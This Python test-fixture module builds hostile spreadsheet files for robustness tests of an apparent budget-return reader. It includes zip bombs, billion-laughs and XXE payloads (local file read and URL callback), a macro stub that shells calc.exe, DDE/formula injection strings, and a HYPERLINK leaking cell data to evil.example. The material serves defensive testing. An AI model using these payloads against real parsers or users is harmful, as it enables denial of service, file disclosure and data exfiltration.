"""Hostile inputs, built at test time into a given folder (nothing big is committed).

Every builder takes the folder to write into and returns the path of what it made. The "real return"
ones start from ``BASE`` (unit 471003), never from ``GOOD`` (unit 471002), so a test can put the bad
file next to a copy of the good return without the two sharing project codes. Big files are written
through ``ZipFile.open(name, "w")`` in chunks: a 400 MB part is never held in memory.
"""
from __future__ import annotations

import hashlib
import random
import re
import shutil
import struct
import zipfile
import zlib
from pathlib import Path

RETURNS = Path(__file__).resolve().parent.parent / "samples" / "returns"
GOOD = RETURNS / "471002_遵化市中小企业服务中心.xlsx"  # OK: no error, no warning
BASE = RETURNS / "471003_遵化市无线电监测站.xlsx"  # OK too; hostile returns are made from this one

MB = 1_000_000
CANARY_SECRET = "CANARY-5f1c2e-TOP-SECRET-do-not-leak"
OLE2_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
# the cell python-calamine must never see: it fills the whole 16384 x 1048576 grid and aborts
FAR_CELL = b'<row r="1048576"><c r="XFD1048576" t="n"><v>1</v></c></row>'


# --- zip and sheet helpers -------------------------------------------------------------------------------

def sheet_parts(path: Path) -> dict[str, str]:
    """Sheet name → zip part, read from xl/workbook.xml and its relationships."""
    with zipfile.ZipFile(path) as archive:
        workbook = archive.read("xl/workbook.xml").decode("utf-8")
        rels = archive.read("xl/_rels/workbook.xml.rels").decode("utf-8")
    targets = {}
    for tag in re.findall(r"<Relationship\b[^>]*>", rels):
        rid, target = re.search(r'Id="([^"]+)"', tag).group(1), re.search(r'Target="([^"]+)"', tag).group(1)
        targets[rid] = target.lstrip("/") if target.startswith("/") else f"xl/{target}"
    parts = {}
    for tag in re.findall(r"<sheet\b[^>]*>", workbook):
        name = re.search(r'name="([^"]+)"', tag).group(1)
        rid = re.search(r'r:id="([^"]+)"', tag).group(1)
        parts[_xml_unescape(name)] = targets[rid]
    return parts


def _xml_unescape(text: str) -> str:
    text = re.sub(r"&#(\d+);", lambda m: chr(int(m.group(1))), text)
    text = re.sub(r"&#x([0-9a-fA-F]+);", lambda m: chr(int(m.group(1), 16)), text)
    return text.replace("&quot;", '"').replace("&apos;", "'").replace("&lt;", "<").replace("&gt;", ">") \
        .replace("&amp;", "&")


def unit_sheet_part(path: Path = BASE) -> str:
    return sheet_parts(path)["单位整体"]


def project_sheet_parts(path: Path = BASE) -> list[str]:
    skip = {"填报说明", "单位整体", "_lists", "_meta", "校验结果"}
    return [part for name, part in sheet_parts(path).items() if name not in skip]


def rewrite_zip(source: Path, target: Path, replace: dict | None = None, add: dict | None = None,
                drop: tuple = ()) -> Path:
    """A copy of ``source`` with parts replaced (bytes, or a function of the old bytes), added or dropped."""
    replace, add = replace or {}, add or {}
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename in drop:
                continue
            data = src.read(info.filename)
            change = replace.get(info.filename)
            if change is not None:
                data = change(data) if callable(change) else change
            dst.writestr(_info_like(info), data)
        for name, data in add.items():
            dst.writestr(_info_like(zipfile.ZipInfo(name)), data)
    return target


def _info_like(info: zipfile.ZipInfo) -> zipfile.ZipInfo:
    copy = zipfile.ZipInfo(info.filename, date_time=(2022, 1, 1, 0, 0, 0))
    copy.compress_type = zipfile.ZIP_DEFLATED
    return copy


def _inline(text: str) -> bytes:
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace("\r", "&#13;")
    return f'<is><t xml:space="preserve">{escaped}</t></is>'.encode("utf-8")


def set_cells(xml: bytes, values: dict[str, object], date_style: int | None = None) -> bytes:
    """Raw worksheet XML with cells set: str → inline text, int/float → number, ('formula', f, cached) →
    a formula with its cached value, ('date', serial) → a number in ``date_style``. Cells must exist."""
    for ref, value in values.items():
        pattern = re.compile(rb'<c r="%s"( s="\d+")?[^>]*?(?:/>|>.*?</c>)' % ref.encode(), re.S)
        match = pattern.search(xml)
        assert match, f"no cell {ref} in the sheet"
        style = match.group(1) or b""
        if isinstance(value, str):
            cell = b'<c r="%s"%s t="inlineStr">%s</c>' % (ref.encode(), style, _inline(value))
        elif isinstance(value, tuple) and value[0] == "formula":
            cell = b'<c r="%s"%s><f>%s</f><v>%s</v></c>' % (ref.encode(), style, value[1].encode(), repr(value[2]).encode())
        elif isinstance(value, tuple) and value[0] == "date":
            cell = b'<c r="%s" s="%d"><v>%d</v></c>' % (ref.encode(), date_style, value[1])
        else:
            cell = b'<c r="%s"%s t="n"><v>%s</v></c>' % (ref.encode(), style, repr(value).encode())
        xml = xml[:match.start()] + cell + xml[match.end():]
    return xml


def add_date_style(styles: bytes) -> tuple[bytes, int]:
    """styles.xml with one more cell format, yyyy-mm-dd (built-in 14); returns it and the new style index."""
    match = re.search(rb'<cellXfs count="(\d+)">', styles)
    count = int(match.group(1))
    end = styles.index(b"</cellXfs>")
    styles = styles[:end] + b'<xf numFmtId="14" fontId="0" fillId="0" borderId="0" applyNumberFormat="1" xfId="0"/>' \
        + styles[end:]
    return styles.replace(match.group(0), b'<cellXfs count="%d">' % (count + 1), 1), count


def add_before(xml: bytes, marker: bytes, extra: bytes) -> bytes:
    assert marker in xml, marker
    return xml.replace(marker, extra + marker, 1)


def file_sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


# --- not a workbook at all -------------------------------------------------------------------------------

def empty_file(folder: Path) -> Path:
    path = folder / "empty.xlsx"
    path.write_bytes(b"")
    return path


def random_bytes(folder: Path) -> Path:
    path = folder / "random.xlsx"
    data = bytearray(random.Random(20220101).randbytes(64 * 1024))
    data[0:2] = b"\x00\x9f"  # not text, not a zip, not OLE2, whatever the seed
    path.write_bytes(bytes(data))
    return path


def truncated_xlsx(folder: Path) -> Path:
    """The first half of a real return, as an interrupted download leaves it."""
    data = BASE.read_bytes()
    path = folder / "truncated.xlsx"
    path.write_bytes(data[: len(data) // 2])
    return path


def docx_renamed(folder: Path) -> Path:
    path = folder / "report_docx_renamed.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml",
                         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                         '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                         '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                         '<Default Extension="xml" ContentType="application/xml"/>'
                         '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
                         'officedocument.wordprocessingml.document.main+xml"/></Types>')
        archive.writestr("_rels/.rels",
                         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                         '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                         'relationships/officeDocument" Target="word/document.xml"/></Relationships>')
        archive.writestr("word/document.xml",
                         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                         '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
                         '<w:body><w:p><w:r><w:t>2022年部门预算绩效文本</w:t></w:r></w:p></w:body></w:document>')
    return path


def csv_renamed(folder: Path) -> Path:
    path = folder / "list_csv_renamed.xlsx"
    path.write_bytes("单位编码,单位名称,项目编码,项目名称,预算数\r\n471003,遵化市无线电监测站,13028122P00308110001A,"
                     "无线电频谱监测设备运行维护费,45.8\r\n".encode("utf-8-sig"))
    return path


def folder_named_xlsx(folder: Path) -> Path:
    path = folder / "folder.xlsx"
    path.mkdir()
    (path / "inside.txt").write_text("a folder, not a workbook\n")
    return path


def broken_symlink(folder: Path) -> Path:
    path = folder / "broken_link.xlsx"
    path.symlink_to(folder / "gone_away.xlsx")
    return path


def symlink_outside(folder: Path) -> Path:
    """A link inside the folder to a (perfectly good) return outside it."""
    outside = folder.parent / f"{folder.name}-outside"
    outside.mkdir(exist_ok=True)
    target = outside / "elsewhere.xlsx"
    shutil.copy(BASE, target)
    path = folder / "outside_link.xlsx"
    path.symlink_to(target)
    return path


# --- zips that must not reach a parser -------------------------------------------------------------------

def _stream_part(source: Path, target: Path, part: str, head: bytes, filler: bytes, count: int, tail: bytes,
                 add: dict | None = None) -> Path:
    """A copy of ``source`` whose ``part`` is head + filler * count + tail, compressed while written."""
    with zipfile.ZipFile(source) as src, \
            zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as dst:
        names = set()
        for info in src.infolist():
            names.add(info.filename)
            if info.filename == part:
                with dst.open(_info_like(info), "w") as out:
                    out.write(head)
                    for _ in range(count):
                        out.write(filler)
                    out.write(tail)
            else:
                dst.writestr(_info_like(info), src.read(info.filename))
        for name, data in (add or {}).items():
            dst.writestr(_info_like(zipfile.ZipInfo(name)), data)
        if part not in names:
            with dst.open(_info_like(zipfile.ZipInfo(part)), "w") as out:
                out.write(head)
                for _ in range(count):
                    out.write(filler)
                out.write(tail)
    return target


def zip_bomb(folder: Path, size: int = 400 * MB) -> Path:
    """A real return whose unit sheet holds ~400 MB of blanks between its elements (legal XML, and it
    compresses about 1000:1): the file stays well under 1 MB."""
    part = unit_sheet_part()
    with zipfile.ZipFile(BASE) as archive:
        sheet = archive.read(part)
    cut = sheet.index(b"<sheetData>") + len(b"<sheetData>")
    filler = b" " * MB
    return _stream_part(BASE, folder / "zip_bomb.xlsx", part, sheet[:cut], filler, size // MB, sheet[cut:])


def huge_shared_strings(folder: Path, size: int = 110 * MB) -> Path:
    """A shared-strings table of more than 100 MB (one endless string)."""
    rel = (b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
           b'sharedStrings" Target="sharedStrings.xml"/>')
    override = (b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
                b'officedocument.spreadsheetml.sharedStrings+xml"/>')
    staged = rewrite_zip(BASE, folder / "huge_shared_strings.staging", replace={
        "xl/_rels/workbook.xml.rels": lambda d: add_before(d, b"</Relationships>", rel),
        "[Content_Types].xml": lambda d: add_before(d, b"</Types>", override)})
    head = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>'
    path = _stream_part(staged, folder / "huge_shared_strings.xlsx", "xl/sharedStrings.xml", head,
                        "绩效".encode() * (MB // 6), size // (MB // 6 * 6), b"</t></si></sst>")
    staged.unlink()
    return path


def many_sheets(folder: Path, total: int = 600) -> Path:
    """600 worksheet parts in all (the limit is 500)."""
    with zipfile.ZipFile(BASE) as archive:
        existing = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
    sheet = (b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
             b'<row r="1"><c r="A1" t="n"><v>1</v></c></row></sheetData></worksheet>')
    add = {f"xl/worksheets/sheet{number}.xml": sheet for number in range(100, 100 + total - len(existing))}
    return rewrite_zip(BASE, folder / "many_sheets.xlsx", add=add)


def far_cell(folder: Path) -> Path:
    """A real return whose unit sheet has one more cell, at XFD1048576."""
    part = unit_sheet_part()
    return rewrite_zip(BASE, folder / "far_cell.xlsx",
                       replace={part: lambda d: add_before(d, b"</sheetData>", FAR_CELL)})


def full_grid_dimension(folder: Path) -> Path:
    """A sheet claiming the whole grid, with cells down to row 1,048,576."""
    part = unit_sheet_part()

    def change(xml: bytes) -> bytes:
        xml = re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', xml)
        rows = b"".join(b'<row r="%d"><c r="A%d" t="n"><v>%d</v></c></row>' % (r, r, r)
                        for r in (100_000, 500_000, 1_048_576))
        return add_before(xml, b"</sheetData>", rows)
    return rewrite_zip(BASE, folder / "full_grid_dimension.xlsx", replace={part: change})


def billion_laughs(folder: Path) -> Path:
    """The classic entity expansion, in xl/workbook.xml."""
    entities = ['<!ENTITY lol0 "lol">']
    for level in range(1, 10):
        entities.append(f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">')
    doctype = f'<?xml version="1.0"?><!DOCTYPE workbook [{"".join(entities)}]>'.encode()

    def change(xml: bytes) -> bytes:
        xml = re.sub(rb"^<\?xml[^>]*\?>", b"", xml)
        xml = add_before(xml, b"</definedNames>", b'<definedName name="laughs">&lol9;</definedName>')
        return doctype + xml
    return rewrite_zip(BASE, folder / "billion_laughs.xlsx", replace={"xl/workbook.xml": change})


def xxe_file(folder: Path, canary: Path) -> Path:
    """An external entity reading a local file into the unit name (a cell every output shows)."""
    part = unit_sheet_part()

    def change(xml: bytes) -> bytes:
        doctype = b'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "%s">]>' % canary.as_uri().encode()
        xml = re.sub(rb'(<c r="B4"[^>]*><is><t>)[^<]*(</t>)', rb"\1&xxe;\2", xml, count=1)
        xml = re.sub(rb'(<c r="B5"[^>]*><is><t>)', rb"\1&xxe;", xml, count=1)
        return doctype + xml
    return rewrite_zip(BASE, folder / "xxe_file.xlsx", replace={part: change})


def xxe_url(folder: Path, url: str) -> Path:
    """External entities (a parameter entity fetched while the DTD is read, and a general one) that
    would make an XML parser call ``url``; in docProps/core.xml, the part read for the save time."""
    def change(xml: bytes) -> bytes:
        xml = re.sub(rb"^<\?xml[^>]*\?>", b"", xml)
        doctype = (b'<?xml version="1.0" encoding="UTF-8" standalone="no"?><!DOCTYPE cp:coreProperties ['
                   b'<!ENTITY %% remote SYSTEM "%s/dtd"> %%remote; <!ENTITY xxe SYSTEM "%s/entity">]>'
                   % (url.encode(), url.encode()))
        xml = re.sub(rb"(<dc:creator>)", rb"\1&xxe;", xml, count=1) if b"<dc:creator>" in xml else \
            add_before(xml, b"</cp:coreProperties>", b"<dc:title>&xxe;</dc:title>")
        return doctype + xml
    return rewrite_zip(BASE, folder / "xxe_url.xlsx", replace={"docProps/core.xml": change})


def _ole2_bytes(seed: int, streams=("EncryptionInfo", "EncryptedPackage")) -> bytes:
    """An OLE2 compound-file header and directory (by default as Excel writes for a
    password-protected workbook), then filler."""
    header = bytearray(512)
    header[0:8] = OLE2_MAGIC
    struct.pack_into("<HHHHH", header, 24, 0x003E, 0x0003, 0xFFFE, 9, 6)
    struct.pack_into("<IIII", header, 44, 1, 1, 0, 4096)  # FAT sectors, first directory sector, ...
    struct.pack_into("<I", header, 60, 0xFFFFFFFE)
    directory = bytearray(512)
    for index, name in enumerate(("Root Entry", *streams)):
        encoded = name.encode("utf-16-le")
        directory[index * 128: index * 128 + len(encoded)] = encoded
        struct.pack_into("<H", directory, index * 128 + 64, len(encoded) + 2)
    return bytes(header) + bytes(directory) + random.Random(seed).randbytes(7 * 1024)


def encrypted(folder: Path) -> Path:
    path = folder / "password_protected.xlsx"
    path.write_bytes(_ole2_bytes(seed=7))
    return path


def legacy_xls(folder: Path) -> Path:
    path = folder / "old_format.xls"
    path.write_bytes(_ole2_bytes(seed=8, streams=("Workbook", "\x05SummaryInformation")))
    return path


# --- readable returns that carry something unwelcome ---------------------------------------------------

def macro_enabled(folder: Path) -> Path:
    """A real return saved as .xlsm with a VBA project."""
    rel = (b'<Relationship Id="rId98" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
           b'Target="vbaProject.bin"/>')
    types = (b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>')
    return rewrite_zip(BASE, folder / "with_macros.xlsm", replace={
        "xl/_rels/workbook.xml.rels": lambda d: add_before(d, b"</Relationships>", rel),
        "[Content_Types].xml": lambda d: add_before(d, b"</Types>", types).replace(
            b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml")},
        add={"xl/vbaProject.bin": OLE2_MAGIC + b"Attribute VB_Name = \"Module1\"\r\nSub Auto_Open()\r\n"
                                               b"Shell \"calc.exe\"\r\nEnd Sub\r\n" + bytes(2048)})


def external_links(folder: Path) -> Path:
    """A real return with a link to another workbook (which must never be opened)."""
    rel = (b'<Relationship Id="rId97" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
           b'externalLink" Target="externalLinks/externalLink1.xml"/>')
    link = (b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            b'<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames><sheetDataSet>'
            b'<sheetData sheetId="0"><row r="1"><cell r="A1"><v>42</v></cell></row></sheetData></sheetDataSet>'
            b'</externalBook></externalLink>')
    link_rels = (b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                 b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                 b'externalLinkPath" Target="file:///C:/secret/budget.xlsx" TargetMode="External"/></Relationships>')
    types = (b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-'
             b'officedocument.spreadsheetml.externalLink+xml"/>')

    def workbook(xml: bytes) -> bytes:
        return add_before(xml, b"<definedNames>", b'<externalReferences><externalReference '
                          b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
                          b'r:id="rId97"/></externalReferences>')
    return rewrite_zip(BASE, folder / "with_links.xlsx", replace={
        "xl/workbook.xml": workbook,
        "xl/_rels/workbook.xml.rels": lambda d: add_before(d, b"</Relationships>", rel),
        "[Content_Types].xml": lambda d: add_before(d, b"</Types>", types)},
        add={"xl/externalLinks/externalLink1.xml": link,
             "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels})


CONTROL_TEXT = "保障\x01固定\x07监测站\x1b和\x7f移动监测车"
ZERO_WIDTH_CODE = "1302\u200b8122P003\u202e08110001A\u200d"  # zero-width space, right-to-left override, ZWJ
LONG_TEXT = ("很长的资金用途说明" * 4000)[:32_767]  # Excel's limit for one cell


def content_nasties(folder: Path) -> Path:
    """A real return, still readable, with what units (or their tools) really put in cells."""
    first, second = project_sheet_parts()[:2]
    with zipfile.ZipFile(BASE) as archive:
        styles, date_style = add_date_style(archive.read("xl/styles.xml"))
    first_values = {
        "B3": ZERO_WIDTH_CODE,            # project code with invisible and bidi characters
        "C4": 1e308,                      # budget total: the largest double
        "E4": "４０",                      # fiscal in full-width digits
        "G4": "NaN",                      # other: text a float() would take
        "C5": CONTROL_TEXT,               # purpose with control characters
        "B7": -0.5,                       # spending plan below zero
        "F11": "≥\u200b2000小时",          # a target with a zero-width space
        "E12": LONG_TEXT,                 # 32,767 characters
    }
    second_values = {
        "C4": -8.0,                       # negative money
        "E4": ("date", 44562),            # a date (2022-01-01) where the fiscal amount belongs
        "G4": 9.99e15,                    # absurd money
        "C7": "Infinity",
    }
    return rewrite_zip(BASE, folder / "content_nasties.xlsx", replace={
        "xl/styles.xml": styles,
        first: lambda d: set_cells(d, first_values),
        second: lambda d: set_cells(d, second_values, date_style)})


INJECTIONS = {
    "D11": '=HYPERLINK("http://x","y")',
    "E11": "=cmd|' /C calc'!A0",
    "G11": "+1+1",
    "D12": "-2+3",
    "E12": "@SUM(1)",
    "G12": "\tleading tab",
    "E13": "\rleading CR",
}


def formula_injection(folder: Path) -> Path:
    """A real return whose text inputs hold formula-like text (as text cells), and one real formula."""
    first = project_sheet_parts()[0]
    values = dict(INJECTIONS)
    values["G13"] = ("formula", "1+1", 2)  # a real formula cell: its cached value is read, never the formula
    return rewrite_zip(BASE, folder / "formula_injection.xlsx", replace={
        first: lambda d: set_cells(d, values),
        unit_sheet_part(): lambda d: set_cells(d, {"B5": '=HYPERLINK("http://evil.example/?leak="&A1,"click")'})})


# --- ways around a naive preflight (each one aborted python-calamine before safety.py knew them) ---------

def _far(cell: bytes, row: bytes = b'<row r="1048576">') -> callable:
    return lambda xml: add_before(xml, b"</sheetData>", row + cell + b"</row>")


SHEET_TRICKS = {
    "single_quotes": _far(b"<c r='XFD1048576' t='n'><v>1</v></c>"),
    "lower_case": _far(b'<c r="xfd1048576" t="n"><v>1</v></c>'),
    "leading_zeros": _far(b'<c r="XFD00000001048576" t="n"><v>1</v></c>'),
    "blanks_around_equals": _far(b'<c r = "XFD1048576" t="n"><v>1</v></c>'),
    "no_blank_between_attributes": _far(b'<c t="n"r="XFD1048576"><v>1</v></c>'),
    "two_r_attributes": _far(b'<c r="A1" r="XFD1048576" t="n"><v>1</v></c>'),
    "angle_brackets_in_a_value": _far(b'<c a="<>" r="XFD1048576" t="n"><v>1</v></c>'),
    "prefixed_element": _far('<é:c xmlns:é="urn:x" r="XFD1048576" t="n"><v>1</v></é:c>'.encode()),
    "odd_prefix": _far(b'<a/:c r="XFD1048576" t="n"><v>1</v></a/:c>'),
    "cells_without_r": lambda xml: add_before(xml, b"</sheetData>", b'<row r="20">' + b'<c t="n"><v>1</v></c>' * 16384
                                              + b'</row><row r="1048576"><c t="n"><v>1</v></c></row>'),
    "tag_longer_than_a_chunk": _far(b'<c a="' + b"x" * (3 << 20) + b'" r="XFD1048576" t="n"><v>1</v></c>'),
    # every row and column within its own limit, but calamine fills A1:ZZ99999 (70 million cells)
    "grid_within_axis_limits": _far(b'<c r="ZZ99999" t="n"><v>1</v></c>', b'<row r="99999">'),
}


def sheet_trick(folder: Path, trick: str) -> Path:
    part = unit_sheet_part()
    return rewrite_zip(BASE, folder / f"trick_{trick}.xlsx", replace={part: SHEET_TRICKS[trick]})


def sheet_outside_worksheets(folder: Path) -> Path:
    """The far cell in a sheet stored as xl/data.bin: calamine follows the relationship, whatever the name."""
    part = unit_sheet_part()
    with zipfile.ZipFile(BASE) as archive:
        sheet = add_before(archive.read(part), b"</sheetData>", FAR_CELL)
    old = part.removeprefix("xl/").encode()
    return rewrite_zip(BASE, folder / "trick_sheet_outside_worksheets.xlsx", drop=(part,), add={"xl/data.bin": sheet},
                       replace={"xl/_rels/workbook.xml.rels": lambda d: d.replace(old, b"data.bin"),
                                "[Content_Types].xml": lambda d: d.replace(b"/" + part.encode(), b"/xl/data.bin")})


def lying_zip_header(folder: Path) -> Path:
    """The unit sheet's zip entry claims fewer bytes (and the matching CRC) than its data holds: zipfile
    stops where the header says, so a preflight trusting it never sees the far cell at the end."""
    part = unit_sheet_part()
    with zipfile.ZipFile(BASE) as archive:
        honest = archive.read(part)
    evil = add_before(honest, b"</sheetData>", FAR_CELL)
    claimed = honest.index(b"<sheetData>")
    path = rewrite_zip(BASE, folder / "trick_lying_zip_header.xlsx", replace={part: evil})
    data = bytearray(path.read_bytes())
    crc = zlib.crc32(evil[:claimed])
    with zipfile.ZipFile(path) as archive:
        offset = archive.getinfo(part).header_offset
    struct.pack_into("<I", data, offset + 14, crc)
    struct.pack_into("<I", data, offset + 22, claimed)
    name = part.encode()
    index = data.find(b"PK\x01\x02")
    while index != -1:
        length = struct.unpack_from("<H", data, index + 28)[0]
        if data[index + 46: index + 46 + length] == name:
            struct.pack_into("<I", data, index + 16, crc)
            struct.pack_into("<I", data, index + 24, claimed)
        index = data.find(b"PK\x01\x02", index + 4)
    path.write_bytes(bytes(data))
    return path


def corrupt_deflate(folder: Path) -> Path:
    """A real return whose first project sheet's compressed data starts with a reserved block type."""
    part = project_sheet_parts()[0]
    path = rewrite_zip(BASE, folder / "corrupt_deflate.xlsx")
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        info = archive.getinfo(part)
    data[info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)] = 0x07  # BFINAL, BTYPE=11
    path.write_bytes(bytes(data))
    return path


def declared_shared_strings(folder: Path, count: int = 4_294_967_296) -> Path:
    """A 1 KB shared-strings table declaring ``count`` strings: python-calamine reserves that many up front
    (51 GB for 2^32) and aborts the process; a cell of the unit sheet refers to it."""
    rel = (b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
           b'sharedStrings" Target="sharedStrings.xml"/>')
    override = (b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
                b'officedocument.spreadsheetml.sharedStrings+xml"/>')
    sst = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<sst xmlns="http://schemas.openxmlformats.org/'
           b'spreadsheetml/2006/main" count="%d" uniqueCount="%d"><si><t>x</t></si></sst>' % (count, count))
    return rewrite_zip(BASE, folder / "declared_shared_strings.xlsx", add={"xl/sharedStrings.xml": sst}, replace={
        "xl/_rels/workbook.xml.rels": lambda d: add_before(d, b"</Relationships>", rel),
        "[Content_Types].xml": lambda d: add_before(d, b"</Types>", override)})


def meta_key_removed(folder: Path, key: str = "layout.unit") -> Path:
    """A real return whose hidden metadata lost a row the reader relies on (renamed, as an editor might)."""
    import openpyxl

    book = openpyxl.load_workbook(BASE)
    for row in book["_meta"].iter_rows():
        if row[0].value == key:
            row[0].value = key + "_"
    path = folder / "meta_key_removed.xlsx"
    book.save(path)
    return path
